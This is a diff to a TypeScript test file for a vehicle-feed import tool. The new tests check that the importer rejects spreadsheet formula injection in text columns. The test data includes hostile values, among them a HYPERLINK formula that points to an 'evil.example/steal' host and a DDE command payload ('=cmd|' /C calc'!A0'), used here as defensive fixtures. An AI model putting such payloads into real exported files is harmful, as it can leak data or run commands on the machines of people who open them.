@@ -8,7 +8,7 @@ import { withVinCheckDigit } from "../../src/lib/content/vin";
 import { feedRecord, feedText } from "../../src/lib/feed-import/feed-from-vehicles";
 import { ImportError } from "../../src/lib/feed-import/import-error";
 import { runImport, type ImportOptions } from "../../src/lib/feed-import/run-import";
-import { jpegBytes, tempContent, writeFeedFile, type TempContent } from "./support";
+import { allowOrigin, jpegBytes, tempContent, writeFeedFile, type TempContent } from "./support";
 
 let server: PhotoServer;
 let content: TempContent;
@@ -41,7 +41,14 @@ afterEach(() => {
 
 async function refusal(feed: string, options: Partial<ImportOptions> = {}): Promise<string[]> {
   try {
-    await runImport({ feed, contentDir: content.dir, today: "2026-11-23", currentYear: 2026, ...options });
+    await runImport({
+      feed,
+      contentDir: content.dir,
+      today: "2026-11-23",
+      currentYear: 2026,
+      ...network(),
+      ...options,
+    });
   } catch (error) {
     if (error instanceof ImportError) return error.problems;
     throw error;
@@ -49,6 +56,7 @@ async function refusal(feed: string, options: Partial<ImportOptions> = {}): Prom
   throw new Error("the feed was imported");
 }
 
+const network = () => ({ network: allowOrigin(server.origin) });
 const withPhotos = (...photos: string[]) => writeFeedFile(feedText([feedRecord(added, photos)]));
 
 describe("hostile feeds", () => {
@@ -140,17 +148,49 @@ describe("hostile feeds", () => {
 });
 
 describe("formula cells in text columns", () => {
-  it("are kept as the plain text they are, never evaluated", async () => {
-    const formula = '=HYPERLINK("https://evil.example/steal","Click for a discount")';
+  const RULE =
+    "must not start with =, +, @, a tab or a carriage return, or with - unless a digit follows (spreadsheets run such text as a formula)";
+
+  it("are refused, naming row, column and rule, so none reaches the Meta CSV or the Google TSV", async () => {
     const feed = writeFeedFile(
       feedText([
-        { ...feedRecord(added, [`${server.origin}/photos/1.jpg`]), Comments: formula, Options: "=1+1,Sunroof" },
+        {
+          ...feedRecord(added, [`${server.origin}/photos/1.jpg`]),
+          Make: '=HYPERLINK("https://evil.example/steal","Click for a discount")',
+          Model: "@SUM(A1:A9)",
+          Trim: "+1-555-0100",
+          "Ext Color": "-Red",
+          InteriorColor: "  =1+1",
+          Options: "Sunroof|=cmd|' /C calc'!A0",
+          Comments: "-cmd /c calc and a long enough description",
+        },
       ]),
     );
-    await runImport({ feed, contentDir: content.dir, today: "2026-11-23", currentYear: 2026 });
+    expect(await refusal(feed)).toEqual([
+      `${feed}: row 2, column "Make" (make): "=HYPERLINK(\\"https://evil.example/steal\\",\\"Click for a disc..." ${RULE}`,
+      `${feed}: row 2, column "Model" (model): "@SUM(A1:A9)" ${RULE}`,
+      `${feed}: row 2, column "Trim" (trim): "+1-555-0100" ${RULE}`,
+      `${feed}: row 2, column "Ext Color" (exteriorColor): "-Red" ${RULE}`,
+      `${feed}: row 2, column "InteriorColor" (interiorColor): "=1+1" ${RULE}`,
+      `${feed}: row 2, column "Options" (features): the feature "=cmd" ${RULE}`,
+      `${feed}: row 2, column "Comments" (description): "-cmd /c calc and a long enough description" ${RULE}`,
+    ]);
+  });
+
+  it("a minus sign before a digit and formula characters later in the text are plain text", async () => {
+    const feed = writeFeedFile(
+      feedText([
+        {
+          ...feedRecord(added, [`${server.origin}/photos/1.jpg`]),
+          Trim: "-2 Door",
+          Options: "Sunroof|Heated seats = comfort",
+          Comments: "Priced to sell: $500 under book, +tax and fees, @ our lot today.",
+        },
+      ]),
+    );
+    await runImport({ feed, contentDir: content.dir, today: "2026-11-23", currentYear: 2026, ...network() });
     const vehicle = content.vehicle("2020-toyota-highlander-t2402.json");
-    expect(vehicle.description).toBe(formula);
-    expect(vehicle.features).toEqual(["=1+1", "Sunroof"]);
+    expect(vehicle).toMatchObject({ trim: "-2 Door", features: ["Sunroof", "Heated seats = comfort"] });
     before = content.snapshot();
     fs.rmSync(path.join(content.dir, ".import", "state.json"));
   });
